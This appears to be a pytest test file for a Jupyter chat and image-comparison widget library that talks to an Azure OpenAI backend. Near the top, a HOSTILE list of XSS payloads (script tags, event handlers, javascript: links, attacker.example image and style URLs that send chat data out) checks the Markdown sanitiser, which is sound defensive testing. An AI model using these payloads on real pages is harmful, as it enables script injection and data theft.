"""The panels' new pieces without a browser: Markdown sanitiser, settings, live estimate, stopped
answers, budget, View code, the static snapshot, Enter to send, compare arms in parallel.

All requests go over real HTTP to the built-in backend on loopback (the ``local_backend``
fixture); widgets are real ipywidgets / anywidget objects driven as the front end would.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import ipywidgets as W
import pytest
from conftest import LOCAL_API_KEY, make_image_bytes

from vizlab.client import Client, connect
from vizlab.widgets import ChatPanel, ComparePanel
from vizlab.widgets.chat_state import ChatSettings, ChatState
from vizlab.widgets.code import request_code
from vizlab.widgets.markdown import render_markdown


def make_client(url: str, **kw: Any) -> Client:
    return connect(backend="azure", endpoint=url, api_key=LOCAL_API_KEY, deployment="gpt-4o", env_file=None,
                   verbose=False, **kw)  # fmt: skip


@pytest.fixture
def client(local_backend: Any) -> Iterator[Client]:
    c = make_client(local_backend.url)
    yield c
    c.close()


@pytest.fixture
def chat(client: Client, tmp_path: Path) -> Iterator[ChatPanel]:
    panel = ChatPanel(client, export_dir=tmp_path)
    panel.run_in_thread = False
    yield panel
    W.Widget.close_all()


@pytest.fixture
def photo() -> bytes:
    return make_image_bytes(1024, 1024, "PNG")


# --- the sanitiser --------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert('x')</script>",
    '<img src="x" onerror="alert(1)">',
    "![tracker](https://attacker.example/pixel.png?chat=secret)",
    '<a href="https://ok.example" onclick="steal()">link</a>',
    "[click](javascript:alert(1))",
    '<iframe src="https://attacker.example"></iframe>',
    '<div style="background:url(https://attacker.example/a.png)">styled</div>',
    "<svg onload=alert(1)><circle/></svg>",
]


@pytest.mark.parametrize("answer", HOSTILE)
def test_markdown_sanitiser_lets_no_script_handler_or_fetch_through(answer: str) -> None:
    out = render_markdown(f"Here you go:\n\n{answer}\n\n**done**")
    assert "<strong>done</strong>" in out
    tags = re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)([^>]*)>", out)
    for name, attrs in tags:
        assert name.lower() not in {"script", "img", "iframe", "svg", "style", "object", "embed"}, out
        assert not re.search(r"\bon[a-z]+\s*=", attrs, re.IGNORECASE), out
        assert not re.search(r"\b(src|style)\s*=", attrs, re.IGNORECASE), out
        assert "javascript:" not in attrs.lower(), out


def test_markdown_renders_lists_bold_code_and_safe_links() -> None:
    out = render_markdown("- **one**\n- two\n\n`x < y`\n\n[docs](https://example.org/a)")
    assert "<ul>" in out and "<li><strong>one</strong></li>" in out
    assert "<code>x &lt; y</code>" in out
    assert 'href="https://example.org/a"' in out and 'rel="noopener noreferrer nofollow"' in out


def test_a_remote_image_is_named_not_loaded() -> None:
    out = render_markdown("![chart](https://example.org/c.png)")
    assert "image not loaded" in out and "https://example.org/c.png" in out and "<img" not in out


def test_answers_in_the_transcript_go_through_the_sanitiser(chat: ChatPanel) -> None:
    chat.state.conversation.add_user("hi")
    chat.state.conversation.add_assistant("**bold** <img src=x onerror=alert(1)> <script>bad()</script>")
    chat.refresh()
    row = chat.transcript.rows[-1]
    assert "<strong>bold</strong>" in row["html"] and "<script" not in row["html"] and "<img" not in row["html"]
    assert row["copy"].startswith("**bold**")  # Copy gives the Markdown as the model wrote it
    snapshot = chat.snapshot_html()
    assert "<script" not in snapshot and "onerror=" not in snapshot.replace("onerror=alert", "")
    assert "&lt;script&gt;" in snapshot


# --- Enter sends ----------------------------------------------------------------------------------


def test_enter_in_the_prompt_sends(chat: ChatPanel) -> None:
    # What the front end sends on Enter: the text in the message (no wait for the value sync).
    chat.prompt._handle_msg({"content": {"data": {"method": "custom", "content": {"event": "submit", "value": "Describe yourself"}}}, "buffers": []})
    assert [r["role"] for r in chat.transcript.rows] == ["user", "assistant"]
    assert chat.transcript.rows[0]["html"] == "Describe yourself"
    assert chat.prompt.value == ""


def test_the_prompt_esm_sends_on_enter_and_not_on_shift_enter() -> None:
    from vizlab.widgets.transcript import PromptBox

    esm = PromptBox()._esm
    assert 'event.key === "Enter" && !event.shiftKey' in esm and "isComposing" in esm
    assert "import " not in esm and "http" not in esm  # self-contained: nothing fetched


# --- settings, estimate, budget -------------------------------------------------------------------


def test_settings_reach_the_request(chat: ChatPanel) -> None:
    chat.temperature.value = 0.3
    chat.top_p.value = 0.8
    chat.stop_text.value = "END, ###"
    chat.max_tokens.value = 200
    chat.prompt.value = "hello"
    chat.send_button.click()
    body = chat.state.last_reply.request if chat.state.last_reply else {}
    assert body["temperature"] == 0.3 and body["top_p"] == 0.8
    assert body["stop"] == ["END", "###"] and body["max_tokens"] == 200
    assert "temperature=0.3" in chat.settings_note.value


def test_five_stop_sequences_are_refused_before_sending(chat: ChatPanel) -> None:
    chat.stop_text.value = "a, b, c, d, e"
    chat.prompt.value = "hello"
    chat.send_button.click()
    assert "at most 4" in chat.error_html.value and chat.state.last_reply is None
    assert chat.prompt.value == "hello"


@pytest.mark.slow
def test_live_estimate_follows_text_attachments_detail_and_history(chat: ChatPanel, photo: bytes) -> None:
    def prompt_tokens() -> int:
        found = re.search(r"~([\d,]+) prompt tokens", chat.estimate_html.value)
        assert found, chat.estimate_html.value
        return int(found.group(1).replace(",", ""))

    empty = prompt_tokens()
    chat.prompt.value = "Describe this image in great detail please"
    typed = prompt_tokens()
    assert typed > empty
    chat.detail_picker.value = "high"
    chat.attach(photo)
    high = prompt_tokens()
    assert high - typed == 765  # 1024x1024 at high on gpt-4o: 4 tiles x 170 + 85
    chat.detail_picker.value = "low"
    assert prompt_tokens() - typed == 85
    assert "85 image tokens" in chat.estimate_html.value
    chat.send_button.click()
    chat.prompt.value = "and now?"
    with_history = prompt_tokens()
    assert with_history > 85  # the image goes again with the follow-up
    chat.past_messages.value = 0
    without = prompt_tokens()
    assert without < with_history and "tokens saved" in chat.estimate_html.value


@pytest.mark.slow
def test_past_messages_included_cuts_the_request(chat: ChatPanel) -> None:
    for q in ("one", "two", "three"):
        chat.prompt.value = q
        chat.send_button.click()
    chat.past_messages.value = 2
    chat.prompt.value = "four"
    chat.send_button.click()
    messages = chat.state.last_reply.request["messages"] if chat.state.last_reply else []
    assert [m["content"] for m in messages][-1] == "four" and len(messages) == 3
    assert len(chat.state.conversation.turns) == 8  # the conversation keeps everything


@pytest.mark.slow
def test_budget_shows_spend_and_refuses_a_send_that_would_cross_it(client: Client, photo: bytes) -> None:
    panel = ChatPanel(client, max_usd=0.02)
    panel.run_in_thread = False
    try:
        panel.prompt.value = "hello"
        panel.send_button.click()
        spent = panel.state.spent_usd
        assert spent > 0 and f"${spent:.4f} of $0.0200" in panel.budget_html.value
        panel.max_tokens.value = 10_000  # worst case 10,000 output tokens at $10/1M: $0.10
        panel.prompt.value = "again"
        panel.send_button.click()
        assert "Not sent" in panel.error_html.value and "budget" in panel.error_html.value
        assert len(panel.state.conversation.turns) == 2 and panel.prompt.value == "again"
        panel.max_tokens.value = 50
        panel.send_button.click()
        assert len(panel.state.conversation.turns) == 4 and panel.error_html.value == ""
    finally:
        W.Widget.close_all()


def test_a_bad_budget_is_refused(client: Client) -> None:
    with pytest.raises(ValueError, match="max_usd"):
        ChatState(client, max_usd=-1)


class _RegistryStub:
    """A reasoning family as vizlab.models describes one (for this unit test only)."""

    name = "o-test"
    reasoning = True
    efforts = ("low", "medium", "high")
    default_effort = "medium"

    def rejected_params(self, effort: str | None = None) -> frozenset[str]:
        return frozenset({"temperature", "top_p", "max_tokens"})


def test_reasoning_family_gets_max_completion_tokens_and_effort_not_temperature(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    state = ChatState(client)
    monkeypatch.setattr(state, "model_info", lambda: _RegistryStub())
    max_tokens, params, notes = state.request_params(ChatSettings(temperature=0.2, max_tokens=500, reasoning_effort="high"))
    assert max_tokens is None and params == {"max_completion_tokens": 500, "reasoning_effort": "high"}
    assert any("temperature not sent" in n for n in notes)


# --- waiting, stopping ----------------------------------------------------------------------------


@pytest.mark.slow
def test_pending_turn_and_honest_totals_for_a_stopped_answer(photo: bytes) -> None:
    slow = connect(local_options={"latency_s": 3.0}, verbose=False)
    panel = ChatPanel(slow)
    try:
        panel.attach(photo)
        panel.prompt.value = "Describe this image"
        panel.send_button.click()  # in a thread: the request waits 3 s on the backend
        pending = panel.transcript.pending
        assert pending["role"] == "user" and len(pending["thumbs"]) == 1  # shown at once, thumbnail too
        assert panel.attachments_box.children == ()  # not left under the input as if unsent
        assert "sending now: ~" in panel.totals_html.value
        time.sleep(0.5)
        panel.stop_button.click()
        assert panel.wait(15)
        totals = panel.state.totals()
        assert totals["stopped"] == 1 and totals["prompt"] == totals["estimated_prompt"] > 765  # image and text
        assert totals["cost"] > 0
        assert "estimated for 1 stopped answer" in panel.totals_html.value
        assert "partly estimated" in panel.totals_html.value
        assert panel.transcript.pending == {}
    finally:
        W.Widget.close_all()
        slow.close()


# --- View code ------------------------------------------------------------------------------------


@pytest.mark.slow
def test_view_code_has_the_request_and_never_the_key(chat: ChatPanel, photo: bytes) -> None:
    chat.attach(photo)
    chat.temperature.value = 0.5
    chat.prompt.value = "Describe this image"
    chat.send_button.click()
    chat.code_toggle.value = True
    for kind in ("python", "requests", "curl"):
        chat.code_kind.value = kind
        code = chat.code_view.code
        assert LOCAL_API_KEY not in code and "AZURE_OPENAI_API_KEY" in code
        assert "0.5" in code and "Describe this image" in code and "vizlab-code-images" in code
    chat.code_kind.value = "python"
    code = chat.code_view.code  # Azure's v1 route, the client's default: the plain OpenAI client
    assert "OpenAI(" in code and "/openai/v1/" in code and "AzureOpenAI(" not in code
    assert 'api_key=os.environ["AZURE_OPENAI_API_KEY"]' in code
    assert "data_url(" in chat.code_view.code  # the image read back from its saved copy
    chat.code_toggle.value = False
    assert chat.code_view.code == ""


@pytest.mark.slow
def test_generated_python_code_runs_against_the_backend(local_backend: Any, client: Client, tmp_path: Path) -> None:
    state = ChatState(client)
    assert state.send("Say hello", settings=ChatSettings(temperature=0.4, max_tokens=50))
    for kind in ("python", "requests"):
        script = tmp_path / f"request_{kind}.py"
        script.write_text(state.request_code(kind, full=True), encoding="utf-8")
        env = {"AZURE_OPENAI_API_KEY": LOCAL_API_KEY, "PATH": "/usr/bin:/bin"}
        done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, env=env, timeout=60)
        assert done.returncode == 0, done.stderr[-2000:]
        assert state.last_reply is not None and done.stdout.strip() == state.last_reply.text.strip()  # same answer


def test_curl_code_is_one_valid_command(client: Client) -> None:
    body = {"model": "gpt-4o", "messages": [{"role": "user", "content": "it's \"quoted\" $HOME `x`"}], "temperature": 0.2}
    code = request_code(body, client, "curl")
    assert "curl " in code and "-H \"api-key: $AZURE_OPENAI_API_KEY\"" in code
    done = subprocess.run(["bash", "-c", "curl() { cat; }\n" + code], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0 and json.loads(done.stdout) == body


@pytest.mark.slow
def test_mimebundle_has_the_widget_and_a_static_snapshot(chat: ChatPanel, photo: bytes) -> None:
    chat.attach(photo)
    chat.prompt.value = "Describe this image"
    chat.send_button.click()
    bundle = chat._repr_mimebundle_()
    assert "application/vnd.jupyter.widget-view+json" in bundle
    html = bundle["text/html"]
    assert html.startswith("<!-- vizlab-snapshot -->") and html.endswith("<!-- /vizlab-snapshot -->")
    assert "Describe this image" in html and "local analyst" in html and "Total: 1 request" in html
    assert 'src="data:image/png;base64,' in html  # the thumbnail, from its own bytes
    assert "VBox(" not in bundle["text/plain"]


def test_nbval_sanitize_folds_the_snapshot() -> None:
    cfg = (Path(__file__).parent.parent / "notebooks" / "sanitize.cfg").read_text(encoding="utf-8")
    found = re.search(r"\[vizlab-snapshot\]\nregex: (.*)\nreplace: (.*)", cfg)
    assert found, "notebooks/sanitize.cfg has no [vizlab-snapshot] section"
    pattern, replacement = found.groups()
    one = "<!-- vizlab-snapshot --><div>0.95 s, $0.0021</div><!-- /vizlab-snapshot -->"
    two = "<!-- vizlab-snapshot --><div>1.20 s, $0.0030 and more</div><!-- /vizlab-snapshot -->"
    assert re.sub(pattern, replacement, one) == re.sub(pattern, replacement, two) == replacement


@pytest.mark.slow
def test_compare_snapshot_shows_pictures_and_answers(client: Client, photo: bytes) -> None:
    panel = ComparePanel(client, image=photo, question="What colour is this?")
    panel.run_in_thread = False
    try:
        panel.run()
        html = panel._repr_mimebundle_()["text/html"]
        assert html.count('src="data:image/png;base64,') == 3 and html.count("local analyst") == 3
    finally:
        W.Widget.close_all()


# --- compare: what the model sees, arms, parallel -------------------------------------------------


@pytest.mark.slow
def test_compare_shows_the_pixels_the_model_sees(client: Client) -> None:
    from vizlab.datasets import text_card

    card = text_card("INVOICE 7Q4K", font_px=14, size=(2000, 1500))
    panel = ComparePanel(client, image=card)
    try:
        low, high = panel.columns["low"], panel.columns["high"]
        assert low.seen_size == (512, 384) and high.seen_size == (1024, 768)
        import io

        from PIL import Image

        assert Image.open(io.BytesIO(high.grid_png)).size == (1024, 768)  # the real pixels, not a preview
        assert "the model sees 1024x768 px" in panel.column_views["high"].stats.value
    finally:
        W.Widget.close_all()


@pytest.mark.slow
def test_compare_deployments_with_their_own_token_rules(photo: bytes) -> None:
    c = connect(local_options={"deployments": ("gpt-4o", "gpt-4.1-mini")}, verbose=False)
    try:
        panel = ComparePanel(c, image=photo, arms=[("gpt-4o", "high"), ("gpt-4.1-mini", "high")])
        panel.run_in_thread = False
        panel.run()
        cols = panel.columns
        assert list(cols) == ["gpt-4o · high", "gpt-4.1-mini · high"]
        a, b = cols["gpt-4o · high"], cols["gpt-4.1-mini · high"]
        assert a.token_model == "gpt-4o" and b.token_model == "gpt-4.1-mini"
        assert a.image_tokens != b.image_tokens  # tiles vs patches
        assert a.reported_prompt and b.reported_prompt and a.answer and b.answer
    finally:
        W.Widget.close_all()
        c.close()


@pytest.mark.slow
def test_compare_requests_go_in_parallel(photo: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    import threading

    from vizlab.widgets.state import CompareState

    slow = connect(local_options={"latency_s": 1.0}, verbose=False)
    in_flight, most = 0, 0
    lock = threading.Lock()
    real_chat = slow.chat

    def counting_chat(*args: Any, **kwargs: Any) -> Any:
        nonlocal in_flight, most
        with lock:
            in_flight += 1
            most = max(most, in_flight)
        try:
            return real_chat(*args, **kwargs)
        finally:
            with lock:
                in_flight -= 1

    monkeypatch.setattr(slow, "chat", counting_chat)
    try:
        state = CompareState(slow, photo)
        state.run()
        assert all(c.answer for c in state.columns.values())
        assert most == 3  # all three requests were waiting on the backend at once
    finally:
        slow.close()


def test_a_bad_compare_arm_is_refused_clearly(client: Client) -> None:
    with pytest.raises(ValueError, match="detail 'medium'"):
        ComparePanel(client, arms=["low", "medium"])


def test_upload_snapshot_lists_the_images(photo: bytes) -> None:
    from vizlab.widgets import UploadPanel

    panel = UploadPanel(model="gpt-4o", detail="high")
    try:
        panel.add(photo)
        html = panel._repr_mimebundle_()["text/html"]
        assert "765 tokens" in html and 'src="data:image/png;base64,' in html and "Total: 1 image" in html
    finally:
        W.Widget.close_all()


@pytest.mark.slow
def test_a_reasoning_deployment_gets_its_parameters_from_the_registry() -> None:
    """o3 on the strict built-in backend: effort picker shown, max_completion_tokens, no temperature."""
    c = connect(deployment="o3", local_options={"deployments": ("o3", "gpt-4o")}, verbose=False)
    try:
        panel = ChatPanel(c)
        panel.run_in_thread = False
        assert panel.effort_picker.layout.display == "" and "low" in dict(panel.effort_picker.options).values()
        assert "temperature not sent" in panel.settings_note.value
        panel.effort_picker.value = "low"
        panel.prompt.value = "hello"
        panel.send_button.click()
        assert panel.error_html.value == ""  # the backend refuses max_tokens/temperature on o3: none was sent
        body = panel.state.last_reply.request if panel.state.last_reply else {}
        assert body["reasoning_effort"] == "low" and body["max_completion_tokens"] == 1000
        assert not {"max_tokens", "temperature", "top_p"} & set(body)
        panel.deployment_picker.value = "gpt-4o"  # a family without reasoning: the picker goes
        assert panel.effort_picker.layout.display == "none" and "temperature=1.0" in panel.settings_note.value
    finally:
        W.Widget.close_all()
        c.close()
